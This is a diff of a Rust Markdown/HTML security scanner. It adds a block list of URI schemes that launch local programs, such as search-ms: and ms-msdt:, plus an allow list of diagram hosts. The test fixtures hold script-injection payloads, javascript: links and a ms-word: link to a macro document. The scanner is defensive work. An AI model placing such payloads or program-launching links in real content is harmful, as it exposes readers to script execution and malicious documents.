@@ -1,105 +1,63 @@
-//! What a text sends or runs once it is rendered.
+//! What does a text send or run once it is rendered?
+
+mod blocks;
+mod inline;
 
 use super::html::{self, Scheme, carries_data, is_script};
 use super::{decode, script};
 use crate::{Budget, Notes, Severity, Unscannable};
 use std::collections::HashSet;
 
+/// A label is no longer than that.
+const LABEL_BYTES_MAX: usize = 1000;
+/// Addresses that start a program of the machine, or open what another machine shares.
+const STARTS: [&str; 17] = [
+    "search-ms:",
+    "search:",
+    "ms-msdt:",
+    "ms-officecmd:",
+    "ms-word:",
+    "ms-excel:",
+    "ms-powerpoint:",
+    "ms-access:",
+    "ms-visio:",
+    "ms-project:",
+    "ms-publisher:",
+    "ms-infopath:",
+    "ms-appinstaller:",
+    "ms-its:",
+    "mk:",
+    "shell:",
+    "hcp:",
+];
+/// Hosts that draw what stands in the address: the data is the picture.
+const DRAWS: [&str; 7] = [
+    "mermaid.ink",
+    "quickchart.io",
+    "latex.codecogs.com",
+    "kroki.io",
+    "www.plantuml.com",
+    "chart.googleapis.com",
+    "private-user-images.githubusercontent.com",
+];
+
 /// Looks at Markdown and the HTML within.
 pub fn check(text: &str, notes: &mut Notes, budget: &mut Budget) -> Result<(), Unscannable> {
     budget.charge(text.len().max(1) as u64)?;
-    let prose = without_code(text);
-    links(&prose, notes, budget)?;
-    diagrams(text, notes);
-    html::check(&prose, notes, budget)
-}
-
-/// The text with fenced and inline code blanked out: that is shown, not run.
-fn without_code(text: &str) -> String {
-    let mut out = String::with_capacity(text.len());
-    let mut fence: Option<(char, usize)> = None;
-    for line in text.split_inclusive('\n') {
-        let trimmed = line.trim_start_matches(' ');
-        let mark = trimmed.chars().next().filter(|c| matches!(c, '`' | '~'));
-        let length = mark.map_or(0, |mark| trimmed.chars().take_while(|c| *c == mark).count());
-        let indent = line.len() - trimmed.len();
-        match (fence, mark) {
-            (None, Some(mark))
-                if length >= 3
-                    && indent < 4
-                    && !(mark == '`' && trimmed[length..].contains('`')) =>
-            {
-                fence = Some((mark, length));
-            }
-            (Some((open, least)), Some(mark))
-                if mark == open
-                    && length >= least
-                    && indent < 4
-                    && trimmed[length..].trim().is_empty() =>
-            {
-                fence = None;
-            }
-            (None, _) => {
-                out.push_str(line);
-                continue;
-            }
-            (Some(_), _) => {}
-        }
-        out.push('\n');
-    }
-    inline_code(&out)
-}
-
-fn inline_code(text: &str) -> String {
-    let mut out = String::with_capacity(text.len());
-    for paragraph in text.split_inclusive("\n\n") {
-        let mut rest = paragraph;
-        let mut tries = 0;
-        while let Some(at) = rest.find('`') {
-            let ticks = rest[at..].bytes().take_while(|b| *b == b'`').count();
-            let body = &rest[at + ticks..];
-            out.push_str(&rest[..at]);
-            tries += 1;
-            let end = if tries > 2000 {
-                None
-            } else {
-                closing(body, ticks)
-            };
-            rest = end.map_or(body, |end| &body[end + ticks..]);
-            out.push(' ');
-        }
-        out.push_str(rest);
-    }
-    out
-}
-
-/// Where a run of just so many ticks stands.
-fn closing(body: &str, ticks: usize) -> Option<usize> {
-    let mut at = 0;
-    while let Some(found) = body[at..].find('`') {
-        let start = at + found;
-        let run = body[start..].bytes().take_while(|b| *b == b'`').count();
-        if run == ticks {
-            return Some(start);
-        }
-        at = start + run;
-    }
-    None
+    let prose = blocks::without_code(text);
+    links(&prose.text, notes, budget)?;
+    diagrams(&prose.diagrams, notes);
+    html::check(&prose.text, notes, budget)
 }
 
 /// A diagram is drawn from a block of code, links and all.
-fn diagrams(text: &str, notes: &mut Notes) {
-    let opens = ["```mermaid", "~~~mermaid"];
-    let starts = opens.iter().flat_map(|open| text.match_indices(open));
-    for (at, open) in starts.take(1000) {
-        let body = &text[at..];
-        let end = body[open.len()..].find(&open[..3]);
-        let body = &body[..end.map_or(body.len(), |end| end + open.len())];
+fn diagrams(bodies: &[String], notes: &mut Notes) {
+    for (number, body) in bodies.iter().enumerate() {
         if body.to_ascii_lowercase().contains("javascript:") {
             notes.find(
                 "markdown.script_address",
                 Severity::Suspicious,
-                format!("offset {at}"),
+                format!("diagram {}", number + 1),
                 "a diagram's link runs a script",
             );
         }
@@ -107,25 +65,20 @@ fn diagrams(text: &str, notes: &mut Notes) {
 }
 
 fn links(text: &str, notes: &mut Notes, budget: &mut Budget) -> Result<(), Unscannable> {
-    for (at, _) in text.match_indices("](").take(100_000) {
-        let mut from = at.saturating_sub(400);
-        while !text.is_char_boundary(from) {
-            from += 1;
+    let brackets = brackets(text);
+    for (close, open) in brackets.iter().take(100_000) {
+        if text[close + 1..].starts_with('(') {
+            let target = inline_address(decode::head(&text[close + 2..], 1024));
+            let is_picture = open.is_some_and(|open| text[..open].ends_with('!'));
+            address(target, is_picture, *close, notes, budget)?;
         }
-        let picture =
-            opening(&text[from..at]).is_some_and(|open| text[..from + open].ends_with('!'));
-        address(
-            inline_address(decode::head(&text[at + 2..], 1024)),
-            picture,
-            at,
-            notes,
-            budget,
-        )?;
     }
-    let pictures = picture_labels(text);
+    let pictures = picture_labels(text, &brackets);
     let mut at = 0;
     for line in text.split_inclusive('\n') {
-        let trimmed = line.trim_start();
+        // Quotes and lists hold the targets of links as well.
+        let held = |c: char| c.is_whitespace() || c.is_ascii_digit() || "> -+*.)".contains(c);
+        let trimmed = line.trim_start_matches(held);
         if trimmed.starts_with('[')
             && let Some((label, target)) = trimmed.split_once("]:")
         {
@@ -133,7 +86,7 @@ fn links(text: &str, notes: &mut Notes, budget: &mut Budget) -> Result<(), Unsca
             // The address may stand on the next line.
             let next = text[at + line.len()..].split('\n').next().unwrap_or("");
             let target = if target.trim().is_empty() {
-                next
+                next.trim_start_matches(held)
             } else {
                 target
             };
@@ -153,33 +106,41 @@ fn links(text: &str, notes: &mut Notes, budget: &mut Budget) -> Result<(), Unsca
     Ok(())
 }
 
-/// Where the bracket opens that is closed behind the text.
-fn opening(text: &str) -> Option<usize> {
-    let mut closed = 0_usize;
-    text.bytes().enumerate().rev().find_map(|(at, byte)| {
+/// Where brackets close, and where each opened. None goes over an empty line.
+fn brackets(text: &str) -> Vec<(usize, Option<usize>)> {
+    let (mut found, mut open) = (Vec::new(), Vec::new());
+    let mut last = b'\n';
+    let mut is_escaped = false;
+    for (at, byte) in text.bytes().enumerate() {
         match byte {
-            b']' => closed += 1,
-            b'[' if closed == 0 => return Some(at),
-            b'[' => closed -= 1,
+            _ if is_escaped => is_escaped = false,
+            b'\\' => is_escaped = true,
+            b'[' => open.push(at),
+            b']' => found.push((at, open.pop())),
+            b'\n' if last == b'\n' => open.clear(),
             _ => {}
         }
-        None
-    })
+        last = byte;
+    }
+    found
 }
 
 /// The labels that pictures refer to.
-fn picture_labels(text: &str) -> HashSet<String> {
-    let labels = text
-        .match_indices("![")
-        .take(100_000)
-        .filter_map(|(at, _)| {
-            let (alt, rest) = decode::head(&text[at + 2..], 500).split_once(']')?;
-            let label = rest.strip_prefix('[').and_then(|rest| rest.split_once(']'));
-            let label = label.map_or("", |(label, _)| label);
-            let label = if label.is_empty() { alt } else { label };
-            (label.len() < 1000).then(|| label.trim().to_lowercase())
-        });
-    labels.collect()
+fn picture_labels(text: &str, brackets: &[(usize, Option<usize>)]) -> HashSet<String> {
+    let pictures = brackets.iter().take(100_000).filter_map(|(close, open)| {
+        let open = open.filter(|open| text[..*open].ends_with('!'))?;
+        let label = text[close + 1..].strip_prefix('[');
+        let label = label.map(|rest| decode::head(rest, LABEL_BYTES_MAX));
+        let label = label.and_then(|rest| rest.split_once(']'));
+        let label = label.map_or("", |(label, _)| label);
+        let label = if label.is_empty() {
+            &text[open + 1..*close]
+        } else {
+            label
+        };
+        (label.len() <= LABEL_BYTES_MAX).then(|| label.trim().to_lowercase())
+    });
+    pictures.collect()
 }
 
 fn inline_address(rest: &str) -> &str {
@@ -245,8 +206,14 @@ fn address(
             place,
             "a link opens a file of another machine",
         ),
+        Scheme::Other if starts_program(&head) => notes.find(
+            "markdown.program_address",
+            Severity::Suspicious,
+            place,
+            "a link starts a program of the machine",
+        ),
         Scheme::Other if picture && script::external(&head) => {
-            if carries_data(&head) {
+            if carries_data(&head) && !is_drawn(&head) {
                 notes.find(
                     "markdown.exfiltration",
                     Severity::Suspicious,
@@ -273,6 +240,19 @@ fn is_share(address: &str) -> bool {
     lower.starts_with("\\\\") || lower.starts_with("file://") && !lower.starts_with("file:///")
 }
 
+fn starts_program(address: &str) -> bool {
+    let lower = decode::head(address, 32).to_ascii_lowercase();
+    STARTS.iter().any(|scheme| lower.starts_with(scheme))
+}
+
+/// Whether the address is of a host that draws its pictures from their addresses.
+fn is_drawn(address: &str) -> bool {
+    let host = address
+        .strip_prefix("https://")
+        .map(|rest| rest.split(['/', '?', '#']).next().unwrap_or_default());
+    host.is_some_and(|host| DRAWS.contains(&host))
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -293,6 +273,13 @@ mod tests {
             "~~~\n```\n<script>\n~~~\n",
             "[![b](https://a.invalid/b.svg?x=1)](https://a.invalid/p?q=eAfQ6S1wfiWASPFS8qieK1tFB3Rgn6NkQRPQkxkCqfzG)",
             "A table | with <b>bold</b><br>\n",
+            "- do\n\n    ```html\n    <script>alert(1)</script>\n    ```\n\n- done",
+            "1. do\n\n   ```html\n   <script>alert(1)\n\n   `</script>\n   ```\n2. `<script>`",
+            "> ```html\n> <script>alert(1)</script>\n> ```\n",
+            "| a | b |\n|---|---|\n| -1 | `<div onclick=\"x()\">` |\n",
+            "Wraps `a\nb` and `<script>alert(1)</script>`.",
+            "\\\\`<script>alert(1)</script>`",
+            "![c](https://mermaid.ink/img/eAfQ6S1wfiWASPFS8qieK1tFB3Rgn6NkQRPQkxkCqfzG)",
         ] {
             assert_eq!(worst(text), Severity::Info, "{text}");
         }
@@ -316,8 +303,40 @@ mod tests {
             "```\ncode\n```\n<svg onload=alert(1)>",
             "`a\n\n<img src=x onerror=alert(1)>`",
             "    ```\n<img src=x onerror=alert(1)>\n",
+            "\\`<img src=x onerror=alert(1)>\\`",
+            "`a\n# h\n`b` <img src=x onerror=alert(1)> `c`",
+            "`a\n***\n`b` <img src=x onerror=alert(1)> `c`",
+            "`a\nh\n---\n`b` <img src=x onerror=alert(1)> `c`",
+            "`a\n- `b` <img src=x onerror=alert(1)> `c`",
+            "`a\n> `b` <img src=x onerror=alert(1)> `c`",
+            "`a\n \t\n`b` <img src=x onerror=alert(1)> `c`",
+            "`a\n<div>\n`b` <img src=x onerror=alert(1)> `c`",
+            "`a\n```\n```\n`b` <img src=x onerror=alert(1)> `c`",
+            "    `\n`b` <img src=x onerror=alert(1)> `c`",
+            "- a\n  ```\n<img src=x onerror=alert(1)>",
+            "1. a\n   ```\n<img src=x onerror=alert(1)>",
+            "> ```\n<img src=x onerror=alert(1)>",
+            "a\n2. b\n    ```\n    <img src=x onerror=alert(1)>",
+            "<!--\n```\n-->\n<img src=x onerror=alert(1)>",
+            "<div>\n```\n<img src=x onerror=alert(1)>\n</div>",
+            "a\r```\rx\r```\r<img src=x onerror=alert(1)>",
+            "<http://a.b/`><img src=x onerror=alert(1)><http://a.b/`>",
+            "<a title=\"`\"><img src=x onerror=alert(1)><a title=\"`\">",
+            "a <!-- ` --> <img src=x onerror=alert(1)> `",
+            "| `a | <img src=x onerror=alert(1)> | b` |\n|--|--|--|\n",
+            "> [a]: javascript:alert(1)",
+            "- [a]: javascript:alert(1)",
+            "> [a]:\n> javascript:alert(1)",
+            "![a][r]\n\n> [r]: https://a.invalid/p?q=eAfQ6S1wfiWASPFS8qieK1tFB3Rgn6NkQRPQkxkCqfzG\n",
+            "[a](search-ms:query=x&crumb=location:y)",
+            "[a](ms-word:ofe|u|https://a.invalid/x.docm)",
+            "```` Mermaid\nclick A \"javascript:alert(1)\"\n````",
         ] {
             assert_eq!(worst(text), Severity::Suspicious, "{text}");
         }
+        let words = "word ".repeat(1000);
+        let query = "eAfQ6S1wfiWASPFS8qieK1tFB3Rgn6NkQRPQkxkCqfzG";
+        let picture = format!("![{words}](https://a.invalid/p?q={query})");
+        assert_eq!(worst(&picture), Severity::Suspicious);
     }
 }
